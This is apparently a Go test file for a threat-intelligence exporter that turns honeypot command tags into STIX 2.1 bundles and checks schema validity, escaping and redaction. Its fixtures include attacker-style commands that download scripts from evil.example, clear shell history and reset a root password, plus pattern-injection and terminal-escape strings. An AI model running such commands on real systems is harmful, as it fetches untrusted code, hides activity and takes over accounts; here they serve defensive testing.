package stix

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"
	"github.com/santhosh-tekuri/jsonschema/v6"

	"ttpctl/internal/attack"
	"ttpctl/internal/event"
	"ttpctl/internal/report/cases"
)

// schemas are those of OASIS (testdata/stix-2.1/LICENSE,
// github.com/oasis-open/cti-stix2-json-schemas).
const schemas = "testdata/stix-2.1/schemas"

// compile returns the schemas by the type that they are of.
func compile(t *testing.T) map[string]*jsonschema.Schema {
	t.Helper()
	all, err := compiled()
	if err != nil {
		t.Fatal(err)
	}
	return all
}

var compiled = sync.OnceValues(func() (map[string]*jsonschema.Schema, error) {
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	ids := map[string]string{}
	err := filepath.WalkDir(schemas, func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		f, err := os.Open(name)
		if err != nil {
			return err
		}
		defer f.Close()
		doc, err := jsonschema.UnmarshalJSON(f)
		if err != nil {
			return err
		}
		id := doc.(map[string]any)["$id"].(string)
		ids[strings.TrimSuffix(d.Name(), ".json")] = id
		return c.AddResource(id, doc)
	})
	if err != nil {
		return nil, err
	}
	all := map[string]*jsonschema.Schema{}
	for kind, id := range ids {
		if all[kind], err = c.Compile(id); err != nil {
			return nil, err
		}
	}
	return all, nil
})

// tag returns a tag of a command at a minute of a day.
func tag(minute int, address, session, technique, sub, evidence string) event.Tag {
	t := event.Tag{
		SourceKind: "command", AttackerIP: address, AttackerUUID: "of " + address, SessionID: event.Some(session), DeckyID: event.Some("decoy-1"),
		Tactic: "TA0011", Technique: technique, SubTechnique: sub, Confidence: 0.85, RuleID: "R0012", RuleVersion: 1, Evidence: []byte(evidence),
		AttackRelease: "enterprise-v19.1", MitreURL: "https://attack.mitre.org/techniques/" + technique,
		ObservedAt: time.Date(2026, 9, 14, 1, minute, 0, 0, time.UTC).Format(time.RFC3339),
	}
	if session == "" {
		t.SessionID = event.OptString{}
	}
	return t
}

func sample() []event.Tag {
	const fetch = `{"command_text":"wget \"http://bob:hunter2@evil.example/it's.sh\"; curl http://192.0.2.200/a\\b.sh; wget http://10.0.0.1/x"}`
	tags := []event.Tag{
		tag(1, "203.0.113.9", "s1", "T1105", "", fetch),
		tag(2, "203.0.113.9", "s1", "T1105", "", fetch),
		tag(3, "203.0.113.9", "s2", "T1070", "T1070.003", `{"command_text":"history -c"}`),
		tag(4, "2001:db8::1", "", "T1105", "", `{"shasum":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","filename":"a'.exe"}`),
		tag(5, "10.0.0.7", "s3", "T0807", "", `{}`),
		tag(6, "", "s4", "T9999", "", `{"command_text":"id"}`),
	}
	timeless := tag(7, "203.0.113.10", "s5", "T1105", "", fetch)
	timeless.ObservedAt = ""
	return append(tags, timeless)
}

func write(t *testing.T, o Options, tags []event.Tag) []byte {
	t.Helper()
	o.Catalogue = attack.Load()
	var b bytes.Buffer
	w := New(&b, o)
	if err := errors.Join(w.Write(tags), w.Close()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// check holds a bundle to the schemas, and to what they do not say: ids are there
// once, and references have their target. It returns the objects by type.
func check(t *testing.T, all map[string]*jsonschema.Schema, text []byte) map[string][]map[string]any {
	t.Helper()
	if !jsontext.Value(text).IsValid() { // strict: UTF-8, no name twice
		t.Fatalf("the bundle is no strict JSON: %.300s", text)
	}
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	objects := map[string][]map[string]any{}
	ids := map[string]bool{}
	for _, x := range doc.(map[string]any)["objects"].([]any) {
		o := x.(map[string]any)
		kind, id := o["type"].(string), o["id"].(string)
		if ids[id] {
			t.Errorf("%s is there twice", id)
		}
		ids[id] = true
		objects[kind] = append(objects[kind], o)
		if err := all[kind].Validate(o); err != nil {
			t.Errorf("%s is not valid: %v", id, err)
		}
	}
	for _, of := range objects {
		for _, o := range of {
			for name, v := range o {
				checkRefs(t, ids, name, v)
			}
		}
	}
	return objects
}

func checkRefs(t *testing.T, ids map[string]bool, name string, v any) {
	t.Helper()
	if strings.HasSuffix(name, "_ref") {
		v = []any{v}
	} else if !strings.HasSuffix(name, "_refs") {
		return
	}
	for _, id := range v.([]any) {
		if !ids[id.(string)] {
			t.Errorf("%s leads out of the bundle: %v", name, id)
		}
	}
}

func TestValid(t *testing.T) {
	all := compile(t)
	for _, word := range []string{"", "clear", "green", "amber", "amber+strict", "red"} {
		text := write(t, Options{Producer: "hive", TLP: word}, sample())
		objects := check(t, all, text)
		doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(text))
		if err == nil && (word == "" || word == "amber+strict") { // it asks every schema about every object
			err = all["bundle"].Validate(doc)
		}
		if err != nil {
			t.Errorf("the bundle is not valid: %.2000v", err)
		}
		want := map[string]int{
			"identity": 3, "attack-pattern": 4, "infrastructure": 4, "indicator": 5, "relationship": 16, "sighting": 6, "observed-data": 5, "process": 3, "ipv4-addr": 4, "ipv6-addr": 1,
			"domain-name": 1, "url": 3, "file": 1,
		}
		for kind, n := range want {
			if len(objects[kind]) != n {
				t.Errorf("--tlp %q: %d of type %s, want %d", word, len(objects[kind]), kind, n)
			}
		}
		markings := 1
		if word != "" {
			markings = 2
		}
		if len(objects["marking-definition"]) != markings {
			t.Errorf("--tlp %q: %d markings, want %d", word, len(objects["marking-definition"]), markings)
		}
		for kind, of := range objects {
			for _, o := range of {
				mitres := o["id"] == mitreID || o["created_by_ref"] == mitreID
				if word != "" && kind != "marking-definition" && !mitres && !strings.Contains(fmt.Sprint(o["object_marking_refs"]), tlpID(word)) {
					t.Errorf("%v is not marked %s", o["id"], word)
				}
			}
		}
	}
	check(t, all, write(t, Options{}, nil)) // an empty one
}

func tlpID(word string) string {
	m, _ := tlpMarking(word)
	return m.ID
}

// The schemas must be able to fail, or the tests above say nothing.
func TestSchemasRefuse(t *testing.T) {
	all := compile(t)
	good := string(write(t, Options{Producer: "hive"}, sample()[:1]))
	for _, edit := range [][2]string{
		{`"type":"sighting"`, `"type":"Sighting!"`}, {`"first_observed"`, `"first_seen_at"`}, {`"pattern":"`, `"patern":"`},
		{`"value":"203.0.113.9"`, `"valu":"203.0.113.9"`}, {`"relationship_type"`, `"kind"`}, {`bundle--`, `bundle-`},
	} {
		bad := strings.ReplaceAll(good, edit[0], edit[1])
		doc, err := jsonschema.UnmarshalJSON(strings.NewReader(bad))
		if err != nil || bad == good {
			t.Fatal(edit, err)
		}
		if all["bundle"].Validate(doc) == nil {
			t.Errorf("the schemas take %s for %s", edit[1], edit[0])
		}
	}
}

func TestPatterns(t *testing.T) {
	objects := check(t, compile(t), write(t, Options{Producer: "hive"}, sample()))
	var got []string
	for _, o := range objects["indicator"] {
		got = append(got, o["pattern"].(string))
	}
	want := []string{
		`[ipv4-addr:value = '203.0.113.9']`, `[url:value = 'http://evil.example/it\'s.sh']`, `[url:value = 'http://192.0.2.200/a']`,
		`[ipv6-addr:value = '2001:db8::1']`, `[file:hashes.'SHA-256' = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']`,
	}
	for _, p := range want {
		if !strings.Contains(strings.Join(got, "\n"), p) {
			t.Errorf("no indicator %s among\n%s", p, strings.Join(got, "\n"))
		}
	}
	for _, p := range got {
		if strings.Contains(p, "10.0.0") {
			t.Errorf("an indicator of an address that says nothing to others: %s", p)
		}
	}
}

// literal is a string of a pattern (STIXPattern.g4, StringLiteral).
var literal = regexp.MustCompile(`^\[[a-z0-9-]+:[a-z]+(\.'?[A-Z0-9-]+'?)? = '(\\'|\\\\|[^'\\])*'\]$`)

func TestComparison(t *testing.T) {
	for in, want := range map[string]string{
		"a":        `[url:value = 'a']`,
		`'] OR [`:  `[url:value = '\'] OR [']`,
		`\`:        `[url:value = '\\']`,
		`\'`:       `[url:value = '\\\'']`,
		"'\\'\\\\": `[url:value = '\'\\\'\\\\']`,
	} {
		if got := comparison("url:value", in); got != want || !literal.MatchString(got) {
			t.Errorf("comparison(%q) = %s, want %s", in, got, want)
		}
	}
}

// Examples of the specification.
func TestObservableIDs(t *testing.T) {
	n := newNames()
	tests := []struct{ got, want string }{
		{n.value("ipv4-addr", "198.51.100.3"), "ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4"},
		{n.value("ipv6-addr", "2001:db8::1"), "ipv6-addr--6469e3a9-b053-5e34-a025-9396ae051d26"}, // as others make it
		{n.value("domain-name", "example.com"), "domain-name--bedb4899-d24b-5401-bc86-8f6b4cc18ec7"},
	}
	for _, tt := range tests {
		if tt.got != tt.want {
			t.Errorf("id %s, want %s", tt.got, tt.want)
		}
	}
}

// The properties that an id is made of are in canonical form (RFC 8785), whatever an
// attacker wrote.
func TestContributing(t *testing.T) {
	n := newNames()
	for _, text := range []string{"", "a.exe", "\x1b\"\\\b\f\n\r\t\x7f</é\u2028\ue000\U0001f980"} {
		n.value("url", text)
		checkCanonical(t, n.buf)
		n.file("SHA-256", text, text)
		checkCanonical(t, n.buf)
	}
}

func checkCanonical(t *testing.T, text []byte) {
	t.Helper()
	v := jsontext.Value(bytes.Clone(text))
	if err := v.Canonicalize(); err != nil || !bytes.Equal(v, text) {
		t.Errorf("%s is not canonical (%v): %s", text, err, v)
	}
}

// What is written byte by byte is what encoding the object gives, whichever of its
// members have a value.
func TestSameAsEncoded(t *testing.T) {
	full := object{}
	v := reflect.ValueOf(&full).Elem()
	const text = "\x1b\"\\\n\x7f<é\u2028\xff"
	for i := range v.NumField() {
		f := v.Field(i)
		switch f.Interface().(type) {
		case string:
			f.SetString(text)
		case int:
			f.SetInt(int64(-1 - i))
		case []string:
			f.Set(reflect.ValueOf([]string{text, "", "b"}))
		case map[string]string:
			f.Set(reflect.ValueOf(map[string]string{"b": text, "a": "", text: "c"}))
		case map[string]map[string]string:
			f.Set(reflect.ValueOf(map[string]map[string]string{"b": {"x": text}, "a": {"y": "", "x": "z"}}))
		case []phase:
			f.Set(reflect.ValueOf([]phase{{text, "b"}, {}}))
		case []reference:
			f.Set(reflect.ValueOf([]reference{{text, "b", "c"}, {Source: "a"}, {ID: "x"}}))
		default:
			t.Fatalf("no value for %s", v.Type().Field(i).Name)
		}
	}
	objects := []object{{}, full}
	for i := range v.NumField() {
		one, without := object{}, full
		reflect.ValueOf(&one).Elem().Field(i).Set(v.Field(i))
		reflect.ValueOf(&without).Elem().Field(i).SetZero()
		objects = append(objects, one, without)
	}
	for i := range objects {
		want, err := json.Marshal(&objects[i], json.Deterministic(true), jsontext.AllowInvalidUTF8(true))
		if got := objects[i].append(nil); err != nil || !bytes.Equal(got, want) {
			t.Errorf("object %d (%v):\n%s\nwant\n%s", i, err, got, want)
		}
	}
}

func TestSameBytes(t *testing.T) {
	tags := sample()
	whole := write(t, Options{Producer: "hive"}, tags)
	var b bytes.Buffer
	w := New(&b, Options{Catalogue: attack.Load(), Producer: "hive"})
	for i := range tags {
		if err := w.Write(tags[i : i+1]); err != nil {
			t.Fatal(err)
		}
		tags[i].Evidence = []byte("overwritten")
	}
	if err := w.Close(); err != nil || !bytes.Equal(b.Bytes(), whole) {
		t.Errorf("tags one by one give another bundle (%v)", err)
	}
	if other := write(t, Options{Producer: "other"}, sample()); bytes.Equal(other, whole) {
		t.Error("another producer gives the same bundle")
	}
}

func quote(s string) string { return string(event.AppendQuoted(nil, s)) }

func TestHostile(t *testing.T) {
	all := compile(t)
	for _, text := range []string{
		"\x1b[2J\x1b]0;pwned\a", "a\r\nb\tc\x00\x7f", "\u009b31m", "\u202ecod.exe", "\xff\xfe\xc3", `'] OR [ipv4-addr:value = '1.1.1.1`, `","x`, "</script>",
		strings.Repeat("A", 1<<20), strings.Repeat("'\\", 1<<12), strings.Repeat("http://a.example/ ", 1<<10),
	} {
		quoted := quote(text)
		x := tag(1, text, text, text, text, `{"command_text":`+quoted+`,"url":`+quote("http://a.example/"+text)+`,"filename":`+quoted+`,"shasum":`+quoted+`}`)
		x.AttackerUUID, x.RuleID, x.Tactic, x.DeckyID, x.AttackRelease = text, text, text, event.Some(text), text
		y := tag(2, "203.0.113.9", "s", "T1105", "", string(x.Evidence))
		out := write(t, Options{Producer: text, TLP: text}, []event.Tag{x, y})
		objects := check(t, all, out)
		for _, o := range objects["indicator"] {
			if p := o["pattern"].(string); !literal.MatchString(p) {
				t.Errorf("%.20q: pattern %.80s", text, p)
			}
		}
		if bytes.Contains(out, []byte(`\u0000`)) || bytes.Contains(out, []byte(`\u001b`)) || len(out) > 64<<10 {
			t.Errorf("%.20q: %d bytes, or control characters: %.200s", text, len(out), out)
		}
	}
}

func TestSecretsStayHome(t *testing.T) {
	out := write(t, Options{Producer: "hive"}, append(sample(),
		tag(8, "203.0.113.9", "s9", "T1098", "", `{"command_text":"echo root:hunter2|chpasswd; echo ssh-rsa AAAA alice@corp.example","username":"alice@corp.example"}`)))
	for _, secret := range []string{"hunter2", "alice", "bob"} {
		if bytes.Contains(out, []byte(secret)) {
			t.Errorf("the bundle holds %s", secret)
		}
	}
}

func TestFolded(t *testing.T) {
	var b bytes.Buffer
	w := New(&b, Options{Catalogue: attack.Load(), Producer: "hive"})
	w.set = cases.New(cases.Limits{Cases: 2, Sightings: 4, Traces: 1, PerCase: 1})
	for i := range 20 {
		if err := w.Write([]event.Tag{tag(i, fmt.Sprintf("203.0.113.%d", i%5), fmt.Sprint(i), "T1105", "", fmt.Sprintf(`{"command_text":"id %d"}`, i))}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	objects := check(t, compile(t), b.Bytes())
	total := 0.0
	for _, s := range objects["sighting"] {
		n, err := s["count"].(interface{ Float64() (float64, error) }).Float64()
		if err != nil {
			t.Fatal(err)
		}
		total += n
	}
	if total != 20 || len(objects["note"]) != 1 || !strings.Contains(fmt.Sprint(objects["note"]), "18 of 20 tags") {
		t.Errorf("%v tags in %d sightings, notes %v", total, len(objects["sighting"]), objects["note"])
	}
}

type brokenWriter struct{}

func (brokenWriter) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

func TestCloseFails(t *testing.T) {
	w := New(brokenWriter{}, Options{Catalogue: attack.Load()})
	if err := w.Close(); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("Close = %v, want the writer's error", err)
	}
}

// An attack-pattern names the technique where others look for it.
func TestAttackPattern(t *testing.T) {
	var doc struct{ Objects []object }
	if err := json.Unmarshal(write(t, Options{Producer: "hive"}, sample()[2:3]), &doc); err != nil {
		t.Fatal(err)
	}
	for _, o := range doc.Objects {
		if o.Type == "attack-pattern" && (o.Name != "Clear Command History" || o.References[0] != reference{"mitre-attack", "T1070.003", "https://attack.mitre.org/techniques/T1070/003"} ||
			o.Phases[0] != phase{"mitre-attack", "stealth"} || len(o.Markings) != 1) {
			t.Errorf("attack-pattern %+v", o)
		}
		if o.Type == "attack-pattern" && (o.ID != "attack-pattern--3aef9463-9a7a-43ba-8957-a867e07c1e6a" || o.CreatedBy != mitreID || o.Modified != mitreCreated || o.Created != mitreCreated) {
			t.Errorf("attack-pattern %+v, want MITRE's own, older than any of its versions", o)
		}
	}
}
